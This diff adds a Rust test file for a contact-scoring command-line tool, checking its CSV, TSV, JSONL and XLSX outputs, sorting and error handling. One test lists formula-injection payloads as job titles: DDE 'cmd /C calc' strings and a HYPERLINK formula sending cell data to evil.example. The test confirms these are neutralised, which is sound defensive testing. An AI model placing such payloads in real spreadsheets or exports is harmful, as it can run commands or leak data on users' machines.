@@ -1,0 +1,370 @@
+//! `--format csv|tsv|jsonl|xlsx`, `--sort`, `--columns`, `--no-reasons`, `--bom`: each format
+//! read back by an independent reader (tests/python/read_output.py: Python's csv and json,
+//! openpyxl) gives the contacts, scores, tiers and queues of the CSV output.
+
+use std::collections::BTreeMap;
+use std::path::{Path, PathBuf};
+use std::process::Command;
+
+use serde_json::Value;
+
+use crate::util::Env;
+
+fn repo(path: &str) -> PathBuf {
+    Path::new(env!("CARGO_MANIFEST_DIR")).join(path)
+}
+
+/// The shipped example with the shipped rules, in a scratch folder.
+fn example() -> Env {
+    let env = Env::new();
+    env.write("rules.toml", std::fs::read(repo("rules.toml")).unwrap());
+    env.write(
+        "contacts.csv",
+        std::fs::read(repo("examples/contacts.csv")).unwrap(),
+    );
+    env
+}
+
+/// `read_output.py FILE`: the file's sheets (one, "rows", for text formats) and cell types.
+fn read(env: &Env, file: &str) -> Value {
+    let out = Command::new("python3")
+        .arg(repo("tests/python/read_output.py"))
+        .arg(env.path(file))
+        .output()
+        .expect("python3 is needed for this test");
+    assert!(
+        out.status.success(),
+        "read_output.py {file} (XLSX needs `pip install openpyxl`, which .ci/run does): {}",
+        String::from_utf8_lossy(&out.stderr)
+    );
+    serde_json::from_slice(&out.stdout).unwrap()
+}
+
+fn rows<'a>(v: &'a Value, sheet: &str) -> &'a Vec<Value> {
+    v["sheets"][sheet]
+        .as_array()
+        .unwrap_or_else(|| panic!("no sheet {sheet} in {}", v["sheets"]))
+}
+
+fn text(v: &Value) -> String {
+    match v {
+        Value::String(s) => s.clone(),
+        other => other.to_string(),
+    }
+}
+
+/// id → (score, tier, queue) for the rows of one sheet, with the header's column names.
+fn contacts(rows: &[Value]) -> Vec<(String, String, String, String)> {
+    let header: Vec<String> = rows[0].as_array().unwrap().iter().map(text).collect();
+    let at = |name: &str| header.iter().position(|h| h == name).unwrap();
+    let (id, score, tier, queue) = (at("Contact ID"), at("score"), at("tier"), at("queue"));
+    rows[1..]
+        .iter()
+        .map(|r| {
+            let r = r.as_array().unwrap();
+            (
+                text(&r[id]),
+                text(&r[score]),
+                text(&r[tier]),
+                text(&r[queue]),
+            )
+        })
+        .collect()
+}
+
+fn classify(env: &Env, args: &[&str]) {
+    let out = env.classify(args).output().unwrap();
+    assert!(
+        out.status.success(),
+        "{args:?}: {}",
+        String::from_utf8_lossy(&out.stderr)
+    );
+}
+
+#[test]
+fn every_format_gives_the_contacts_scores_tiers_and_queues_of_csv() {
+    let env = example();
+    for file in ["out.csv", "out.tsv", "out.jsonl", "out.xlsx"] {
+        // The format comes from the file's extension.
+        classify(&env, &["contacts.csv", "-o", file]);
+    }
+    let csv = read(&env, "out.csv");
+    let mut want = contacts(rows(&csv, "rows"));
+    assert_eq!(want.len(), 240);
+    want.sort();
+    for file in ["out.tsv", "out.jsonl"] {
+        let mut got = contacts(rows(&read(&env, file), "rows"));
+        got.sort();
+        assert_eq!(got, want, "{file}");
+    }
+    // JSON Lines: scores are numbers.
+    let jsonl = std::fs::read_to_string(env.path("out.jsonl")).unwrap();
+    for line in jsonl.lines() {
+        let o: Value = serde_json::from_str(line).unwrap();
+        assert!(o["score"].is_i64() && o["tier"].is_string() && o["reasons"].is_array());
+    }
+
+    // The workbook: a sheet per queue, sales first, then Summary; every contact once.
+    let book = read(&env, "out.xlsx");
+    let names: Vec<&str> = book["sheets"]
+        .as_object()
+        .unwrap()
+        .keys()
+        .map(String::as_str)
+        .collect();
+    for sheet in ["sales", "marketing", "suppressed", "customers", "Summary"] {
+        assert!(names.contains(&sheet), "{sheet} in {names:?}");
+    }
+    let mut got = Vec::new();
+    for queue in ["sales", "marketing", "suppressed", "customers"] {
+        let sheet = rows(&book, queue);
+        let types = book["types"][queue].as_array().unwrap();
+        let header: Vec<String> = sheet[0].as_array().unwrap().iter().map(text).collect();
+        let score = header.iter().position(|h| h == "score").unwrap();
+        let mut last = i64::MAX;
+        for (r, row) in sheet.iter().enumerate().skip(1) {
+            let kinds = types[r].as_array().unwrap();
+            // Scores are numbers, highest first; no cell is ever a formula.
+            assert_eq!(kinds[score], "n", "{queue} row {r}");
+            let s = row[score].as_i64().unwrap();
+            assert!(s <= last, "{queue} is sorted by score");
+            last = s;
+            assert!(kinds.iter().all(|k| k != "f"), "{queue} row {r}: a formula");
+        }
+        assert_eq!(book["frozen"][queue], "A2", "{queue}: the header is frozen");
+        assert!(book["filter"][queue].is_string(), "{queue}: an autofilter");
+        got.extend(contacts(sheet));
+    }
+    got.sort();
+    // Numbers read back by openpyxl as integers print the same as CSV's.
+    assert_eq!(got, want, "the workbook's contacts");
+    let summary: BTreeMap<String, String> = rows(&book, "Summary")[1..]
+        .iter()
+        .map(|r| (text(&r[0]), text(&r[1])))
+        .collect();
+    assert_eq!(summary["contacts"], "240");
+    assert_eq!(summary["queue sales"], "37");
+    assert_eq!(summary["as of"].len(), 10);
+    assert_eq!(summary["rules sha256"].len(), 64);
+}
+
+#[test]
+fn jsonl_reasons_are_rules_with_points_then_caps_then_the_route() {
+    let env = example();
+    classify(
+        &env,
+        &["contacts.csv", "--format", "jsonl", "-o", "o.jsonl"],
+    );
+    let text = std::fs::read_to_string(env.path("o.jsonl")).unwrap();
+    let mut kinds = BTreeMap::new();
+    for line in text.lines() {
+        let o: Value = serde_json::from_str(line).unwrap();
+        let mut total = 0.0;
+        for r in o["reasons"].as_array().unwrap() {
+            let kind = if r.get("rule").is_some() {
+                "rule"
+            } else if r.get("capped_at").is_some() || r.get("floored_at").is_some() {
+                "cap"
+            } else {
+                assert!(r["route"].is_string(), "{r}");
+                "route"
+            };
+            *kinds.entry(kind).or_insert(0) += 1;
+            total += r.get("points").and_then(Value::as_f64).unwrap_or(0.0);
+        }
+        // The points add up to the score (before rounding).
+        assert!(
+            (total - o["score"].as_f64().unwrap()).abs() <= 0.5,
+            "{}: {total} against {}",
+            o["Contact ID"],
+            o["score"]
+        );
+    }
+    assert!(
+        kinds["rule"] > 0 && kinds["cap"] > 0 && kinds["route"] > 0,
+        "{kinds:?}"
+    );
+}
+
+#[test]
+fn formula_payloads_are_text_in_a_workbook_escaped_in_tsv_and_exact_in_jsonl() {
+    let payloads = [
+        "=cmd|' /C calc'!A0",
+        "=HYPERLINK(\"http://evil.example/?d=\"&A1,\"Click\")",
+        "@SUM(1+9)*cmd|' /C calc'!A0",
+        "+1+cmd|' /C calc'!A0",
+        "-2+3+cmd|' /C calc'!A0",
+        "=DDE(\"cmd\";\"/C calc\";\"!A0\")",
+    ];
+    let env = Env::standard();
+    let mut csv = String::from("id,email,Job Title,Company Size,demo,unsubscribed,sales_status\n");
+    for (i, p) in payloads.iter().enumerate() {
+        csv.push_str(&format!(
+            "{},p{i}@acme.com,\"{}\",10,no,no,\n",
+            i + 1,
+            p.replace('"', "\"\"")
+        ));
+    }
+    env.write("evil.csv", &csv);
+    for file in ["o.xlsx", "o.tsv", "o.jsonl"] {
+        classify(&env, &["evil.csv", "-o", file]);
+    }
+    let title = |rows: &[Value]| -> Vec<String> {
+        let header: Vec<String> = rows[0].as_array().unwrap().iter().map(text).collect();
+        let at = header.iter().position(|h| h == "Job Title").unwrap();
+        let mut t: Vec<(String, String)> = rows[1..]
+            .iter()
+            .map(|r| (text(&r[0]), text(&r[at])))
+            .collect();
+        t.sort();
+        t.into_iter().map(|(_, title)| title).collect()
+    };
+    let exact: Vec<String> = payloads.iter().map(|p| p.to_string()).collect();
+    let escaped: Vec<String> = payloads.iter().map(|p| format!("'{p}")).collect();
+    // A workbook: the payload exactly, as a string cell, never a formula.
+    let book = read(&env, "o.xlsx");
+    assert_eq!(title(rows(&book, "marketing")), exact);
+    for row in book["types"]["marketing"].as_array().unwrap() {
+        assert!(row.as_array().unwrap().iter().all(|t| t != "f"));
+    }
+    // TSV is for spreadsheets too: escaped like CSV.
+    assert_eq!(title(rows(&read(&env, "o.tsv"), "rows")), escaped);
+    // JSON Lines is for programs: as read.
+    assert_eq!(title(rows(&read(&env, "o.jsonl"), "rows")), exact);
+}
+
+#[test]
+fn sort_score_puts_the_highest_first_and_keeps_ties_in_input_order() {
+    let env = example();
+    classify(&env, &["contacts.csv", "-o", "plain.csv"]);
+    classify(
+        &env,
+        &["contacts.csv", "--sort", "score", "-o", "sorted.csv"],
+    );
+    let plain = contacts(rows(&read(&env, "plain.csv"), "rows"));
+    let sorted = contacts(rows(&read(&env, "sorted.csv"), "rows"));
+    let mut want = plain.clone();
+    // A stable sort: equal scores stay in input order.
+    want.sort_by_key(|c| std::cmp::Reverse(c.1.parse::<i64>().unwrap()));
+    assert_eq!(sorted, want);
+    assert_ne!(sorted, plain, "the example is not already sorted");
+}
+
+#[test]
+fn columns_chooses_input_columns_and_no_reasons_drops_the_reasons() {
+    let env = example();
+    classify(
+        &env,
+        &[
+            "contacts.csv",
+            "--columns",
+            "Email,Contact ID",
+            "--no-reasons",
+            "-o",
+            "o.csv",
+        ],
+    );
+    let out = read(&env, "o.csv");
+    let rows = rows(&out, "rows");
+    let header: Vec<String> = rows[0].as_array().unwrap().iter().map(text).collect();
+    assert_eq!(
+        header,
+        [
+            "Email",
+            "Contact ID",
+            "score",
+            "score_fit",
+            "score_engagement",
+            "tier",
+            "queue"
+        ]
+    );
+    assert_eq!(rows.len(), 241);
+    assert!(text(&rows[1][0]).contains('@'));
+
+    let out = env
+        .classify(&["contacts.csv", "--columns", "Email,Shoe size"])
+        .output()
+        .unwrap();
+    assert_eq!(out.status.code(), Some(65));
+    let err = String::from_utf8_lossy(&out.stderr);
+    assert!(err.contains("no column \"Shoe size\""), "{err}");
+}
+
+#[test]
+fn bom_starts_csv_and_tsv_and_is_refused_for_other_formats() {
+    let env = example();
+    classify(&env, &["contacts.csv", "--bom", "-o", "o.csv"]);
+    classify(
+        &env,
+        &["contacts.csv", "--bom", "--format", "tsv", "-o", "o.txt"],
+    );
+    for file in ["o.csv", "o.txt"] {
+        let bytes = std::fs::read(env.path(file)).unwrap();
+        assert!(bytes.starts_with(b"\xEF\xBB\xBFContact ID"), "{file}");
+    }
+    assert!(std::fs::read(env.path("o.txt")).unwrap()[3..].contains(&b'\t'));
+    let out = env
+        .classify(&["contacts.csv", "--bom", "-o", "o.jsonl"])
+        .output()
+        .unwrap();
+    assert_eq!(out.status.code(), Some(2));
+}
+
+#[test]
+fn split_with_xlsx_writes_a_workbook_per_queue() {
+    let env = example();
+    std::fs::create_dir(env.path("out")).unwrap();
+    classify(
+        &env,
+        &["contacts.csv", "--split", "out", "--format", "xlsx"],
+    );
+    let mut files = env.files();
+    files.retain(|f| f.starts_with("out/") && f != "out/.leadsort.lock");
+    assert_eq!(
+        files,
+        [
+            "out/customers.xlsx",
+            "out/marketing.xlsx",
+            "out/rejected.csv",
+            "out/sales.xlsx",
+            "out/summary.json",
+            "out/suppressed.xlsx"
+        ]
+    );
+    let sales = read(&env, "out/sales.xlsx");
+    assert_eq!(
+        rows(&sales, "sales").len(),
+        38,
+        "37 contacts and the header"
+    );
+    assert_eq!(sales["sheets"].as_object().unwrap().len(), 1);
+}
+
+#[test]
+fn a_cell_too_long_for_excel_is_an_error_and_the_old_workbook_stays() {
+    let env = Env::standard();
+    let note = "x".repeat(40_000);
+    env.write(
+        "long.csv",
+        format!(
+            "id,email,Job Title,Company Size,demo,unsubscribed,sales_status,note\n\
+             1,a@acme.com,VP,10,no,no,,short\n2,b@acme.com,VP,10,no,no,,{note}\n"
+        ),
+    );
+    env.write("o.xlsx", "the old workbook");
+    let out = env
+        .classify(&["long.csv", "-o", "o.xlsx"])
+        .output()
+        .unwrap();
+    assert_eq!(out.status.code(), Some(65));
+    let err = String::from_utf8_lossy(&out.stderr);
+    assert!(
+        err.contains("column note") && err.contains("40000 characters") && err.contains("32767"),
+        "{err}"
+    );
+    assert!(!err.contains("xxxxxxxx"), "no contact data in the message");
+    assert_eq!(env.read("o.xlsx"), "the old workbook");
+    // CSV has no such limit.
+    classify(&env, &["long.csv", "-o", "o.csv"]);
+}
